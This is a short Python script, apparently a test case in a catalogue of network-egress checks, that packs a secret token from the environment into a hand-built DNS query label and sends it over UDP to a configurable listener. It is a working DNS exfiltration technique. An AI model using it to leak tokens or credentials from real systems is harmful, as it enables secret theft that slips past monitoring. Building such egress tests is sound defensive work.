# says: Hides data in a question to a name server of its own.
# stopped by: network
# proof: arrived
# source: DNS labels
import os
import socket

token = os.environ["TOKEN"].encode()
question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + bytes([len(token)]) + token + b"\4test\0\0\1\0\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    sender.sendto(question, (os.environ["LISTENER"], int(os.environ["DNS_PORT"])))
